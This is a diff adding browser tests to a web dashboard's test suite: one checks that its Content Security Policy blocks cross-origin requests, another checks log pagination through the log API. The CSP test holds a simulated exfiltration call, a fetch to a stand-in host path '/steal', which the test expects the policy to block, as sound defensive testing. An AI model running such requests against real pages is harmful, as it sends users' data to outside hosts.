@@ -201,3 +201,51 @@ def test_screenshots_of_every_view(signed_in: Session, viewport: str) -> None:
         path = SCREENSHOTS / f"{view}-{width}x{height}.png"
         page.screenshot(path=str(path), full_page=True)
         assert path.stat().st_size > 5_000
+
+
+def test_content_security_policy_keeps_the_page_on_its_origin(signed_in: Session) -> None:
+    page = signed_in.page
+    # Even script running in the page cannot reach another origin: the CSP's connect-src
+    # refuses before any network traffic (the interceptor would record it otherwise).
+    outcome = page.evaluate(
+        """fetch('http://127.0.0.2:9/steal').then(() => 'sent', e => 'blocked: ' + e.name)"""
+    )
+    assert outcome == "blocked: TypeError"
+    assert signed_in.watch.foreign == []
+    # The browser reports the refusal on the console; that report was this test's point.
+    assert any("Content Security Policy" in m for m in signed_in.watch.console_errors)
+    signed_in.watch.console_errors.clear()
+    signed_in.watch.failed.clear()
+
+
+def test_load_older_pages_back_through_the_log_api(signed_in: Session, daemon: Daemon) -> None:
+    import time
+
+    from bastion.domains.logs.repo import LogRecord, LogsRepo
+    from bastion.store import Database
+
+    marker = "bulk-" + secrets.token_hex(4)
+    now = time.time() - 3600  # older than anything the services print
+    db = Database.open(daemon.config.db_path, daemon.config.store, name="test-writer")
+    try:
+        LogsRepo(db).insert_batch(
+            LogRecord(
+                ts=now + i, level="info", source="bulk", stream="stdout", message=f"{marker} {i}"
+            )
+            for i in range(150)
+        )
+    finally:
+        db.close()
+    page = signed_in.page
+    show(page, "logs")
+    page.fill("#log-q", marker)
+    page.click("#log-filter button[type=submit]")
+    lines = page.locator("#log-lines li")
+    wait_until(lambda: lines.count() == 100, timeout=15, what="the newest 100 lines")
+    assert page.locator("#log-lines li").first.inner_text().endswith(f"{marker} 50")
+    assert page.is_enabled("#log-older")
+    page.click("#log-older")
+    wait_until(lambda: lines.count() == 150, timeout=15, what="the 50 older lines")
+    assert lines.first.inner_text().endswith(f"{marker} 0")
+    assert lines.last.inner_text().endswith(f"{marker} 149")
+    wait_until(lambda: not page.is_enabled("#log-older"), timeout=15, what="no older page")
